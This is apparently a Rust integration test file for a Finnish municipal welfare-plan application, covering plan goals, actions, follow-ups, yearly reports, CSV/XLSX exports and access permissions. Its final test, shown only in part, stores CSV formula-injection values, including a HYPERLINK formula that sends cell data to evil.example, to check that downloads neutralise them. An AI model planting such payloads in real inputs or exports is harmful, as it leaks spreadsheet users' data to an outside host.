//! The welfare plan and the yearly report: plan CRUD through the API and the pages,
//! validation that keeps the typed input, baselines from the data and on-track
//! computation, the tag filter, progress, the generated yearly report, CSV/XLSX
//! downloads (read back with calamine) and permissions. Every test runs on SQLite and
//! on PostgreSQL (`both!`).

#[macro_use]
#[path = "common/mod.rs"]
mod common;

use common::*;
use hyte_app::model::users::NewUser;
use hyte_domain::report::{ObservationKind, ObservationOrigin};
use hyte_domain::{RegionKey, Role};
use reqwest::{Method, StatusCode};
use serde_json::json;

/// Low is good; Asikkala improves from 20 (2018) to 16 (2022), the country is at 10.
const IND_UNEMP: i64 = 90_201;
/// High is good; Asikkala stays at 60, the country at 50.
const IND_SPORT: i64 = 90_202;

async fn load_data(app: &TestApp) {
    app.store
        .put_indicator(&definition(IND_UNEMP, "Testityöttömyys, %", "low_is_good"))
        .await
        .unwrap();
    app.store
        .put_indicator(&definition(IND_SPORT, "Testiliikunta, %", "high_is_good"))
        .await
        .unwrap();
    let mut csv =
        String::from("indicator,region_category,region_code,region_title_fi,year,gender,value\n");
    for year in 2018..=2022 {
        for (cat, code, name, pop) in [
            ("KUNTA", "016", "Asikkala", 8000),
            ("KUNTA", "398", "Lahti", 120_000),
            ("KUNTA", "049", "Espoo", 300_000),
        ] {
            csv.push_str(&format!("127,{cat},{code},{name},{year},total,{pop}\n"));
        }
        let asikkala = 20 - (year - 2018);
        for (cat, code, name, unemp, sport) in [
            ("KUNTA", "016", "Asikkala", asikkala, 60),
            ("KUNTA", "398", "Lahti", 11, 50),
            ("KUNTA", "049", "Espoo", 9, 49),
            ("HYVINVOINTIALUE", "09", "Päijät-Häme", 12, 51),
            ("MAA", "SSS", "Koko maa", 10, 50),
        ] {
            csv.push_str(&format!(
                "{IND_UNEMP},{cat},{code},{name},{year},total,{unemp}\n{IND_SPORT},{cat},{code},{name},{year},total,{sport}\n"
            ));
        }
    }
    app.store
        .ingest("test-values.csv", csv.into_bytes(), None, "test")
        .await
        .expect("test values import");
}

/// A coordinator's token and a term report of Asikkala with one concern and one joy.
async fn setup(app: &TestApp) -> (String, i64, i64, i64) {
    load_data(app).await;
    let coord = app.user(ASIKKALA, Role::Coordinator).await;
    let token = app.api_token(&coord).await;
    let v = ok_json(
        api(
            app,
            &token,
            Method::POST,
            "/api/v1/organisations/KUNTA:016/reports",
            Some(
                json!({"kind": "term_report", "title": "Hyvinvointikertomus 2025–2029",
                        "term_start": 2025, "term_end": 2029, "template": "empty"}),
            ),
        )
        .await,
        StatusCode::CREATED,
    )
    .await;
    let id = v["report"]["id"].as_i64().unwrap();
    let mut tx = app.store.begin().await.unwrap();
    let concern = tx
        .add_observation(
            id,
            ObservationKind::Concern,
            "Työttömyys on korkea",
            None,
            ObservationOrigin::WorkingGroup,
            None,
            "open",
            &[IND_UNEMP],
            &coord.email,
        )
        .await
        .unwrap();
    tx.commit().await.unwrap();
    let mut tx = app.store.begin().await.unwrap();
    let joy = tx
        .add_observation(
            id,
            ObservationKind::Joy,
            "Liikuntaa harrastetaan paljon",
            None,
            ObservationOrigin::WorkingGroup,
            None,
            "open",
            &[IND_SPORT],
            &coord.email,
        )
        .await
        .unwrap();
    tx.commit().await.unwrap();
    (token, id, concern, joy)
}

/// Two goals (one tagged for the children and youth plan), actions in two sectors,
/// a follow-up with its baseline from the data. Returns (goal A, goal B, action A, action B).
async fn build_plan(
    app: &TestApp,
    token: &str,
    id: i64,
    concern: i64,
    joy: i64,
) -> (i64, i64, i64, i64) {
    let g = ok_json(
        api(app, token, Method::POST, &format!("/api/v1/reports/{id}/plan/goals"),
            Some(json!({"title": "Nuorten työllisyys paranee", "description": "Nuorisotyöttömyys puolittuu.",
                        "tags": ["children_youth"], "observations": [concern]}))).await,
        StatusCode::CREATED,
    ).await;
    assert_eq!(g["observations"], json!([concern]));
    assert_eq!(g["tags"], json!(["children_youth"]));
    let ga = g["id"].as_i64().unwrap();
    let gb = ok_json(
        api(
            app,
            token,
            Method::POST,
            &format!("/api/v1/reports/{id}/plan/goals"),
            Some(json!({"title": "Liikunta-aktiivisuus säilyy", "observations": [joy]})),
        )
        .await,
        StatusCode::CREATED,
    )
    .await["id"]
        .as_i64()
        .unwrap();
    let a = ok_json(
        api(app, token, Method::POST, &format!("/api/v1/reports/{id}/plan/goals/{ga}/actions"),
            Some(json!({"title": "Ohjaamo nuorille", "sector": "education", "responsible": "Sivistysjohtaja",
                        "start_year": 2026, "end_year": 2027,
                        "resources": [{"year": 2026, "euros": 15000, "person_years": 0.5},
                                      {"year": 2027, "euros": 12000.5, "person_years": 0.5}]}))).await,
        StatusCode::CREATED,
    ).await;
    assert_eq!(a["resources"][1]["euros"], json!(1_200_050), "cents: {a}");
    let aa = a["id"].as_i64().unwrap();
    let ab = ok_json(
        api(app, token, Method::POST, &format!("/api/v1/reports/{id}/plan/goals/{gb}/actions"),
            Some(json!({"title": "Liikuntaneuvonta", "sector": "leisure", "responsible": "Liikuntasihteeri",
                        "start_year": 2026, "end_year": 2026,
                        "resources": [{"year": 2026, "euros": 8000, "person_years": 0.2}]}))).await,
        StatusCode::CREATED,
    ).await["id"].as_i64().unwrap();
    (ga, gb, aa, ab)
}

both!(
    plan_crud_followups_and_tag_filter,
    |app: TestApp| async move {
        let (token, id, concern, joy) = setup(&app).await;
        let (ga, gb, aa, _ab) = build_plan(&app, &token, id, concern, joy).await;

        // Baseline from the data: 2018 → 20; target 10 in 2028. The path expects 16 in
        // 2022 and Asikkala has 16: on track.
        let f = ok_json(
            api(
                &app,
                &token,
                Method::POST,
                &format!("/api/v1/reports/{id}/plan/follow-ups"),
                Some(
                    json!({"goal_id": ga, "indicator_id": IND_UNEMP, "baseline_year": 2018,
                        "target_year": 2028, "target_value": 10}),
                ),
            )
            .await,
            StatusCode::CREATED,
        )
        .await;
        assert_eq!(f["baseline_value"], json!(20.0));
        assert_eq!(f["baseline_overridden"], false);
        assert_eq!(f["latest"]["year"], 2022);
        assert_eq!(f["tracking"], "on_track");
        // Without a year the baseline is the latest value; nothing after it yet.
        let f2 = ok_json(
        api(&app, &token, Method::POST, &format!("/api/v1/reports/{id}/plan/follow-ups"),
            Some(json!({"goal_id": gb, "indicator_id": IND_SPORT, "target_year": 2029, "target_value": 60}))).await,
        StatusCode::CREATED,
    ).await;
        assert_eq!(f2["baseline_year"], 2022);
        assert_eq!(f2["tracking"], "no_data");
        // An overridden baseline is flagged; a higher target is wrong for low-is-good.
        let fid = f2["id"].as_i64().unwrap();
        let f3 = ok_json(
        api(&app, &token, Method::PUT, &format!("/api/v1/reports/{id}/plan/follow-ups/{fid}"),
            Some(json!({"goal_id": gb, "indicator_id": IND_SPORT, "baseline_year": 2019, "baseline_value": 55,
                        "target_year": 2023, "target_value": 65}))).await,
        StatusCode::OK,
    ).await;
        assert_eq!(f3["baseline_overridden"], true);
        assert_eq!(f3["tracking"], "off_track", "{f3}");
        let res = api(
            &app,
            &token,
            Method::POST,
            &format!("/api/v1/reports/{id}/plan/follow-ups"),
            Some(
                json!({"goal_id": ga, "indicator_id": IND_UNEMP, "baseline_year": 2018,
                    "target_year": 2028, "target_value": 25}),
            ),
        )
        .await;
        let msg = json_error(res, StatusCode::UNPROCESSABLE_ENTITY).await;
        assert!(msg.contains("not better than the baseline"), "{msg}");
        let res = api(
            &app,
            &token,
            Method::POST,
            &format!("/api/v1/reports/{id}/plan/follow-ups"),
            Some(
                json!({"goal_id": ga, "indicator_id": IND_UNEMP, "baseline_year": 2005,
                    "target_year": 2028, "target_value": 10}),
            ),
        )
        .await;
        let msg = json_error(res, StatusCode::UNPROCESSABLE_ENTITY).await;
        assert!(msg.contains("no value"), "{msg}");

        // Validation of actions and goals.
        for (body, needle) in [
            (
                json!({"title": "X", "sector": "education", "start_year": 2027, "end_year": 2026}),
                "must end",
            ),
            (
                json!({"title": "X", "sector": "education", "start_year": 2026, "end_year": 2026,
                "resources": [{"year": 2028, "euros": 1}]}),
                "outside",
            ),
            (
                json!({"title": "X", "sector": "education", "start_year": 2026, "end_year": 2026,
                "resources": [{"year": 2026, "euros": -1}]}),
                "euros",
            ),
            (
                json!({"title": " ", "sector": "education", "start_year": 2026, "end_year": 2026}),
                "title",
            ),
            (
                json!({"title": "X", "sector": "education", "start_year": 2026, "end_year": 2026, "tags": ["nope"]}),
                "plan tag",
            ),
        ] {
            let res = api(
                &app,
                &token,
                Method::POST,
                &format!("/api/v1/reports/{id}/plan/goals/{ga}/actions"),
                Some(body),
            )
            .await;
            let msg = json_error(res, StatusCode::UNPROCESSABLE_ENTITY).await;
            assert!(msg.contains(needle), "{needle}: {msg}");
        }
        let res = api(
            &app,
            &token,
            Method::POST,
            &format!("/api/v1/reports/{id}/plan/goals"),
            Some(json!({"title": "X", "observations": [999999]})),
        )
        .await;
        json_error(res, StatusCode::UNPROCESSABLE_ENTITY).await;

        // Update an action; the tag filter shows the tagged goal only.
        let v = ok_json(
        api(&app, &token, Method::PUT, &format!("/api/v1/reports/{id}/plan/actions/{aa}"),
            Some(json!({"title": "Ohjaamo nuorille ja nuorille aikuisille", "sector": "education",
                        "start_year": 2026, "end_year": 2028, "tags": ["participation"],
                        "resources": [{"year": 2026, "euros": 15000, "person_years": 0.5}]}))).await,
        StatusCode::OK,
    ).await;
        assert_eq!(v["end_year"], 2028);
        let plan = ok_json(
            app.get_bearer(
                &token,
                &format!("/api/v1/reports/{id}/plan?tag=children_youth"),
            )
            .await,
            StatusCode::OK,
        )
        .await;
        let titles: Vec<&str> = plan["goals"]
            .as_array()
            .unwrap()
            .iter()
            .map(|g| g["title"].as_str().unwrap())
            .collect();
        assert_eq!(titles, vec!["Nuorten työllisyys paranee"]);
        assert_eq!(plan["actions"].as_array().unwrap().len(), 1);
        assert_eq!(plan["follow_ups"].as_array().unwrap().len(), 1);
        let plan = ok_json(
            app.get_bearer(
                &token,
                &format!("/api/v1/reports/{id}/plan?tag=participation"),
            )
            .await,
            StatusCode::OK,
        )
        .await;
        assert_eq!(
            plan["goals"].as_array().unwrap().len(),
            1,
            "goal shown for its tagged action"
        );
        let res = app
            .get_bearer(&token, &format!("/api/v1/reports/{id}/plan?tag=nope"))
            .await;
        json_error(res, StatusCode::NOT_FOUND).await;
        let tags = ok_json(
            app.get_bearer(&token, "/api/v1/plan-tags").await,
            StatusCode::OK,
        )
        .await;
        assert_eq!(tags["items"].as_array().unwrap().len(), 7);

        // The page: the children-and-youth view shows only tagged items.
        let coord = app.user(ASIKKALA, Role::Coordinator).await;
        let client = new_client();
        app.login(&client, &coord.email, &coord.password).await;
        let (status, html) = app
            .get_text(
                &client,
                &format!("/reports/{id}/plan?tag=children_youth&year=2026"),
            )
            .await;
        assert_eq!(status, StatusCode::OK);
        assert!(
            html.contains("Lasten ja nuorten hyvinvointisuunnitelma"),
            "tag heading"
        );
        assert!(html.contains("Nuorten työllisyys paranee"));
        assert!(!html.contains("Liikuntaneuvonta"), "untagged action hidden");
        let (_, html) = app.get_text(&client, &format!("/reports/{id}/plan")).await;
        assert!(html.contains("Liikuntaneuvonta"));
        assert!(
            html.contains("Työttömyys on korkea"),
            "the goal shows the concern it answers"
        );

        // Delete cascades.
        let res = api(
            &app,
            &token,
            Method::DELETE,
            &format!("/api/v1/reports/{id}/plan/goals/{gb}"),
            None,
        )
        .await;
        assert_eq!(res.status(), StatusCode::NO_CONTENT);
        let plan = ok_json(
            app.get_bearer(&token, &format!("/api/v1/reports/{id}/plan"))
                .await,
            StatusCode::OK,
        )
        .await;
        assert_eq!(plan["goals"].as_array().unwrap().len(), 1);
        assert_eq!(plan["follow_ups"].as_array().unwrap().len(), 1);
        // Every change is audited.
        let audit = app
            .store
            .audit_entries(Some(&ASIKKALA.parse::<RegionKey>().unwrap()), 100)
            .await
            .unwrap();
        for action in [
            "plan_goal_added",
            "plan_action_added",
            "plan_action_changed",
            "plan_followup_added",
            "plan_followup_changed",
            "plan_goal_deleted",
        ] {
            assert!(audit.iter().any(|e| e.action == action), "audited {action}");
        }
    }
);

both!(forms_keep_input_on_refusal, |app: TestApp| async move {
    let (_token, id, concern, _joy) = setup(&app).await;
    let (_, client) = app.signed_in(ASIKKALA, Role::Coordinator).await;
    let path = format!("/reports/{id}/plan");
    let csrf = app.csrf(&client, &path).await;
    let c = concern.to_string();
    // A goal without a title is refused; the description and choices are kept.
    let res = app
        .post_form(
            &client,
            &format!("{path}/goals"),
            &[
                ("csrf", &csrf),
                ("title", " "),
                ("description", "Pidä tämä kuvaus"),
                ("tags", "children_youth"),
                ("observations", &c),
            ],
        )
        .await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let html = res.text().await.unwrap();
    assert!(html.contains("Pidä tämä kuvaus"), "description kept");
    assert!(
        html.contains("id=\"goal-error\""),
        "error shown at the form"
    );
    assert!(
        html.contains("value=\"children_youth\" checked"),
        "tag kept"
    );
    // A valid goal, then an action with a bad amount keeps its fields.
    let res = app
        .post_form(
            &client,
            &format!("{path}/goals"),
            &[
                ("csrf", &csrf),
                ("title", "Nuorten työllisyys"),
                ("tags", "children_youth"),
                ("observations", &c),
            ],
        )
        .await;
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    let gid = app.store.plan(id).await.unwrap().goals[0].id;
    let res = app
        .post_form(
            &client,
            &format!("{path}/goals/{gid}/actions"),
            &[
                ("csrf", &csrf),
                ("title", "Ohjaamo"),
                ("sector", "education"),
                ("responsible", "Rehtori"),
                ("start_year", "2026"),
                ("end_year", "2027"),
                ("res_year", "2026"),
                ("res_euros", "15 000,x"),
                ("res_py", "0,5"),
            ],
        )
        .await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let html = res.text().await.unwrap();
    assert!(html.contains("value=\"15 000,x\""), "amount kept");
    assert!(html.contains("value=\"Rehtori\""));
    assert!(html.contains("kirjoita eurot numerona"), "Finnish reason");
    let res = app
        .post_form(
            &client,
            &format!("{path}/goals/{gid}/actions"),
            &[
                ("csrf", &csrf),
                ("title", "Ohjaamo"),
                ("sector", "education"),
                ("responsible", "Rehtori"),
                ("start_year", "2026"),
                ("end_year", "2027"),
                ("res_year", "2026"),
                ("res_euros", "15 000"),
                ("res_py", "0,5"),
                ("res_year", ""),
                ("res_euros", ""),
                ("res_py", ""),
            ],
        )
        .await;
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    let plan = app.store.plan(id).await.unwrap();
    assert_eq!(plan.actions[0].resources[0].euros.cents(), 1_500_000);
    // A follow-up whose baseline comes from the data, through the form.
    let ind = IND_UNEMP.to_string();
    let g = gid.to_string();
    let res = app
        .post_form(
            &client,
            &format!("{path}/follow-ups"),
            &[
                ("csrf", &csrf),
                ("goal_id", &g),
                ("action_id", ""),
                ("indicator_id", &ind),
                ("baseline_year", "2018"),
                ("baseline_value", ""),
                ("target_year", "2018"),
                ("target_value", "10"),
            ],
        )
        .await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let html = res.text().await.unwrap();
    assert!(html.contains("id=\"followup-error\""));
    let res = app
        .post_form(
            &client,
            &format!("{path}/follow-ups"),
            &[
                ("csrf", &csrf),
                ("goal_id", &g),
                ("action_id", ""),
                ("indicator_id", &ind),
                ("baseline_year", "2018"),
                ("baseline_value", ""),
                ("target_year", "2028"),
                ("target_value", "10"),
            ],
        )
        .await;
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    let (_, html) = app.get_text(&client, &path).await;
    assert!(
        html.contains("Tavoitteen suunnassa"),
        "on track shown in Finnish"
    );
    // Progress through the form.
    let aid = plan.actions[0].id;
    let res = app
        .post_form(
            &client,
            &format!("{path}/actions/{aid}/progress"),
            &[
                ("csrf", &csrf),
                ("year", "2026"),
                ("status", "partly_done"),
                ("narrative", "Aloitettu syksyllä"),
                ("euros_used", "9000"),
                ("py_used", "0,4"),
            ],
        )
        .await;
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    let (_, html) = app
        .get_text(&client, &format!("{path}/progress?year=2026"))
        .await;
    assert!(html.contains("Osittain toteutunut"));
    assert!(html.contains("Aloitettu syksyllä"));
    assert!(html.contains("<progress"));
    // A form without the CSRF token is refused.
    let res = app
        .post_form(&client, &format!("{path}/goals"), &[("title", "X")])
        .await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
});

both!(yearly_report_and_exports, |app: TestApp| async move {
    let (token, id, concern, joy) = setup(&app).await;
    let (ga, _gb, aa, ab) = build_plan(&app, &token, id, concern, joy).await;
    ok_json(
        api(
            &app,
            &token,
            Method::POST,
            &format!("/api/v1/reports/{id}/plan/follow-ups"),
            Some(
                json!({"goal_id": ga, "indicator_id": IND_UNEMP, "baseline_year": 2018,
                    "target_year": 2028, "target_value": 10}),
            ),
        )
        .await,
        StatusCode::CREATED,
    )
    .await;
    let p = ok_json(api(&app, &token, Method::PUT, &format!("/api/v1/reports/{id}/plan/actions/{aa}/progress/2026"),
        Some(json!({"status": "done", "narrative": "Ohjaamo avattiin.", "euros_used": 14000, "person_years_used": 0.5}))).await,
        StatusCode::OK).await;
    assert_eq!(p["status"], "done");
    ok_json(
        api(
            &app,
            &token,
            Method::PUT,
            &format!("/api/v1/reports/{id}/plan/actions/{ab}/progress/2026"),
            Some(json!({"status": "in_progress", "narrative": "Neuvonta alkoi."})),
        )
        .await,
        StatusCode::OK,
    )
    .await;
    let res = api(
        &app,
        &token,
        Method::PUT,
        &format!("/api/v1/reports/{id}/plan/actions/{ab}/progress/2026"),
        Some(json!({"status": "finished"})),
    )
    .await;
    json_error(res, StatusCode::UNPROCESSABLE_ENTITY).await;
    let pr = ok_json(
        app.get_bearer(
            &token,
            &format!("/api/v1/reports/{id}/plan/progress?year=2026"),
        )
        .await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(pr["counts"]["done"], 1);
    assert_eq!(pr["counts"]["in_progress"], 1);
    assert_eq!(pr["counts"]["percent"], 63, "(1 + 0.25) / 2");

    // The yearly report.
    let y = ok_json(
        api(
            &app,
            &token,
            Method::POST,
            &format!("/api/v1/reports/{id}/yearly-reports"),
            Some(json!({"year": 2026})),
        )
        .await,
        StatusCode::CREATED,
    )
    .await;
    assert_eq!(y["report"]["kind"], "yearly_report");
    assert_eq!(y["report"]["year"], 2026);
    let bodies: String = y["sections"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["body"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(y["sections"].as_array().unwrap().len(), 4);
    assert!(
        bodies.contains("Ohjaamo nuorille"),
        "action in progress table"
    );
    assert!(bodies.contains("Toteutunut"), "status in Finnish");
    assert!(bodies.contains("Ohjaamo avattiin."), "narrative");
    assert!(
        bodies.contains("Tavoitteen suunnassa"),
        "follow-up on track"
    );
    assert!(
        bodies.contains("Testityöttömyys, %"),
        "indicator change listed"
    );
    assert!(bodies.contains("Parempi"), "unemployment fell: better");
    assert!(bodies.contains("huonompi"), "still worse than the country");
    assert!(
        bodies.contains(&format!("{{{{indicator {IND_UNEMP} chart=trend")),
        "live block"
    );
    assert!(
        y["proposed_observations"].as_i64().unwrap() >= 1,
        "concerns proposed: {y}"
    );
    let yid = y["report"]["id"].as_i64().unwrap();
    // It is a normal report: readable, editable sections.
    let r = ok_json(
        app.get_bearer(&token, &format!("/api/v1/reports/{yid}"))
            .await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(r["sections"][1]["revision"], 1);
    let plan = ok_json(
        app.get_bearer(&token, &format!("/api/v1/reports/{id}/plan"))
            .await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(plan["yearly_reports"][0]["report_id"], yid);
    // Not from a yearly report, not outside the term.
    let res = api(
        &app,
        &token,
        Method::POST,
        &format!("/api/v1/reports/{yid}/yearly-reports"),
        Some(json!({"year": 2026})),
    )
    .await;
    json_error(res, StatusCode::UNPROCESSABLE_ENTITY).await;
    let res = api(
        &app,
        &token,
        Method::POST,
        &format!("/api/v1/reports/{id}/yearly-reports"),
        Some(json!({"year": 2040})),
    )
    .await;
    json_error(res, StatusCode::UNPROCESSABLE_ENTITY).await;

    // Downloads: CSV parses, XLSX reads back.
    let (_, client) = app.signed_in(ASIKKALA, Role::Reader).await;
    let res = app
        .get_with(&client, &format!("/reports/{id}/plan/table.csv"))
        .await;
    assert_eq!(res.status(), StatusCode::OK);
    assert!(res.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    let bytes = res.bytes().await.unwrap();
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    let mut rdr = csv::Reader::from_reader(text.as_bytes());
    let header = rdr.headers().unwrap().clone();
    assert_eq!(&header[0], "Tavoite");
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(&rows[0][2], "Ohjaamo nuorille");
    assert_eq!(&rows[0][9], "27000.5");
    let res = app
        .get_with(
            &client,
            &format!("/reports/{id}/plan/table.csv?tag=children_youth"),
        )
        .await;
    let text = res.text().await.unwrap();
    assert!(!text.contains("Liikuntaneuvonta"));

    use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
    let res = app
        .get_with(
            &client,
            &format!("/reports/{id}/plan/progress.xlsx?year=2026"),
        )
        .await;
    assert_eq!(res.status(), StatusCode::OK);
    let bytes = res.bytes().await.unwrap().to_vec();
    let mut wb: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(bytes)).expect("xlsx opens");
    let names = wb.sheet_names().to_vec();
    assert_eq!(names.len(), 2, "{names:?}");
    let sheet = wb.worksheet_range(&names[0]).unwrap();
    assert_eq!(sheet.get((0, 0)), Some(&Data::String("Tavoite".into())));
    assert_eq!(
        sheet.get((1, 1)),
        Some(&Data::String("Ohjaamo nuorille".into()))
    );
    assert_eq!(sheet.get((1, 6)), Some(&Data::Float(14000.0)));
    let follow = wb.worksheet_range(&names[1]).unwrap();
    assert_eq!(follow.get((1, 3)), Some(&Data::Float(20.0)));
    assert_eq!(follow.get((1, 5)), Some(&Data::Float(16.0)));
    let res = app
        .get_with(&client, &format!("/reports/{id}/plan/table.xlsx"))
        .await;
    let bytes = res.bytes().await.unwrap().to_vec();
    let mut wb: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(bytes)).expect("xlsx opens");
    let names = wb.sheet_names().to_vec();
    let sheet = wb.worksheet_range(&names[0]).unwrap();
    assert_eq!(sheet.get((1, 9)), Some(&Data::Float(27000.5)));
});

both!(plan_permissions, |app: TestApp| async move {
    let (token, id, concern, joy) = setup(&app).await;
    let (ga, _gb, aa, ab) = build_plan(&app, &token, id, concern, joy).await;
    // An editor of the leisure sector records progress of leisure's action only.
    let mut tx = app.store.begin().await.unwrap();
    let editor = tx
        .create_user(&NewUser {
            email: "liikunta@asikkala.example.fi".into(),
            name: "Liikuntasihteeri".into(),
            org: Some(ASIKKALA.parse().unwrap()),
            role: Role::Editor,
            sector: Some("leisure".into()),
            password_hash: hyte_web::auth::hash_password(PASSWORD).unwrap(),
        })
        .await
        .unwrap();
    tx.commit().await.unwrap();
    let et = app
        .api_token(&TestUser {
            email: editor.email.clone(),
            user: editor,
            password: PASSWORD.into(),
        })
        .await;
    let body = json!({"status": "done", "narrative": "Valmis"});
    ok_json(
        api(
            &app,
            &et,
            Method::PUT,
            &format!("/api/v1/reports/{id}/plan/actions/{ab}/progress/2026"),
            Some(body.clone()),
        )
        .await,
        StatusCode::OK,
    )
    .await;
    let res = api(
        &app,
        &et,
        Method::PUT,
        &format!("/api/v1/reports/{id}/plan/actions/{aa}/progress/2026"),
        Some(body.clone()),
    )
    .await;
    json_error(res, StatusCode::FORBIDDEN).await;
    let res = api(
        &app,
        &et,
        Method::POST,
        &format!("/api/v1/reports/{id}/plan/goals"),
        Some(json!({"title": "X"})),
    )
    .await;
    json_error(res, StatusCode::FORBIDDEN).await;
    let plan = ok_json(
        app.get_bearer(&et, &format!("/api/v1/reports/{id}/plan"))
            .await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(plan["can_edit"], false);
    let flags: Vec<bool> = plan["actions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["can_update_progress"].as_bool().unwrap())
        .collect();
    assert_eq!(flags, vec![false, true]);
    // A reader reads and downloads but changes nothing.
    let reader = app.user(ASIKKALA, Role::Reader).await;
    let rt = app.api_token(&reader).await;
    ok_json(
        app.get_bearer(&rt, &format!("/api/v1/reports/{id}/plan"))
            .await,
        StatusCode::OK,
    )
    .await;
    for (m, p, b) in [
        (
            Method::POST,
            format!("/api/v1/reports/{id}/plan/goals"),
            json!({"title": "X"}),
        ),
        (
            Method::PUT,
            format!("/api/v1/reports/{id}/plan/actions/{ab}/progress/2026"),
            body.clone(),
        ),
        (
            Method::POST,
            format!("/api/v1/reports/{id}/plan/follow-ups"),
            json!({"goal_id": ga, "indicator_id": IND_UNEMP, "target_year": 2028, "target_value": 10}),
        ),
        (
            Method::POST,
            format!("/api/v1/reports/{id}/yearly-reports"),
            json!({"year": 2026}),
        ),
    ] {
        let res = api(&app, &rt, m, &p, Some(b)).await;
        json_error(res, StatusCode::FORBIDDEN).await;
    }
    // Another organisation: 403, also for downloads; unknown ids 404; malformed 400.
    let lahti = app.user(LAHTI, Role::Coordinator).await;
    let lt = app.api_token(&lahti).await;
    json_error(
        app.get_bearer(&lt, &format!("/api/v1/reports/{id}/plan"))
            .await,
        StatusCode::FORBIDDEN,
    )
    .await;
    let (_, lc) = app.signed_in(LAHTI, Role::Coordinator).await;
    assert_eq!(
        app.get_with(&lc, &format!("/reports/{id}/plan/table.csv"))
            .await
            .status(),
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        app.get_with(&lc, &format!("/reports/{id}/plan"))
            .await
            .status(),
        StatusCode::FORBIDDEN
    );
    json_error(
        app.get_bearer(&token, "/api/v1/reports/999999/plan").await,
        StatusCode::NOT_FOUND,
    )
    .await;
    let res = api(
        &app,
        &token,
        Method::PUT,
        &format!("/api/v1/reports/{id}/plan/actions/999999"),
        Some(json!({"title": "X", "sector": "education", "start_year": 2026, "end_year": 2026})),
    )
    .await;
    json_error(res, StatusCode::NOT_FOUND).await;
    let res = plain_client()
        .post(app.url(&format!("/api/v1/reports/{id}/plan/goals")))
        .bearer_auth(&token)
        .header(reqwest::header::CONTENT_TYPE, "application/json")
        .body("{not json")
        .send()
        .await
        .unwrap();
    json_error(res, StatusCode::BAD_REQUEST).await;
    // Signed out: the page sends to sign-in.
    let res = app.get(&format!("/reports/{id}/plan")).await;
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
});

// The yearly report measures indicator changes from what the council approved in the
// term report (its frozen version), not from the value before the latest one.
both!(
    yearly_report_changes_since_the_approved_term_report,
    |app: TestApp| async move {
        let (token, id, concern, joy) = setup(&app).await;
        build_plan(&app, &token, id, concern, joy).await;
        let s = api_ok(
            &app,
            &token,
            Method::POST,
            &format!("/api/v1/reports/{id}/sections"),
            json!({"heading": "Työllisyys"}),
            StatusCode::CREATED,
        )
        .await;
        let sid = s["section"]["id"]
            .as_i64()
            .or_else(|| s["id"].as_i64())
            .unwrap_or_else(|| panic!("section id in {s}"));
        let body = format!("Työttömyys laskee.\n\n{{{{indicator {IND_UNEMP} chart=trend}}}}\n");
        api_ok(
            &app,
            &token,
            Method::PUT,
            &format!("/api/v1/reports/{id}/sections/{sid}/text"),
            json!({"base_revision": 0, "body": body}),
            StatusCode::OK,
        )
        .await;
        approve_by_council(&app, &token, id).await;
        // Two newer years after the approval: 2023 = 15, 2024 = 13.
        let csv = format!(
        "indicator,region_category,region_code,region_title_fi,year,gender,value\n\
         {IND_UNEMP},KUNTA,016,Asikkala,2023,total,15\n{IND_UNEMP},KUNTA,016,Asikkala,2024,total,13\n"
    );
        app.store
            .ingest("newer.csv", csv.into_bytes(), None, "test")
            .await
            .expect("newer values import");
        let y = api_ok(
            &app,
            &token,
            Method::POST,
            &format!("/api/v1/reports/{id}/yearly-reports"),
            json!({"year": 2026}),
            StatusCode::CREATED,
        )
        .await;
        let changes = y["sections"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s["body"].as_str().unwrap())
            .find(|b| b.contains("Hyväksytyssä kertomuksessa"))
            .unwrap_or_else(|| panic!("changes measured from the approved report: {y}"))
            .to_string();
        assert!(
            changes.contains("2026-05-18"),
            "the decision date: {changes}"
        );
        let row = changes
            .lines()
            .find(|l| l.starts_with("| Testityöttömyys, %"))
            .unwrap_or_else(|| panic!("a row for the indicator: {changes}"));
        // Approved: 16 (2022); latest 13 (2024). The value before the latest (15, 2023)
        // is not the basis.
        assert!(row.contains("(2022)") && row.contains("(2024)"), "{row}");
        assert!(!row.contains("(2023)"), "{row}");
        assert!(row.contains("Parempi"), "{row}");
    }
);

both!(
    plan_downloads_never_carry_formulas,
    |app: TestApp| async move {
        let (token, id, _, _) = setup(&app).await;
        let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
        let g = ok_json(
            api(
                &app,
                &token,
                Method::POST,
                &format!("/api/v1/reports/{id}/plan/goals"),
                Some(json!({"title": evil})),
            )
            .await,
            StatusCode::CREATED,
        )
        .await["id"]
            .as_i64()
            .unwrap();
        ok_json(
            api(
                &app,
                &token,
                Method::POST,
                &format!("/api/v1/reports/{id}/plan/goals/{g}/actions"),
                Some(
                    json!({"title": "@SUM(1,2)", "sector": "education", "responsible": "-1+1",
                            "start_year": 2026, "end_year": 2026,
                            "resources": [{"year": 2026, "euros": 1500, "person_years": 0.5}]}),
                ),
            )
            .await,
            StatusCode::CREATED,
        )
        .await;
        let (_, client) = app.signed_in(ASIKKALA, Role::Reader).await;
        let res = app
            .get_with(&client, &format!("/reports/{id}/plan/table.csv"))
            .await;
        assert_eq!(res.status(), StatusCode::OK);
        let bytes = res.bytes().await.unwrap();
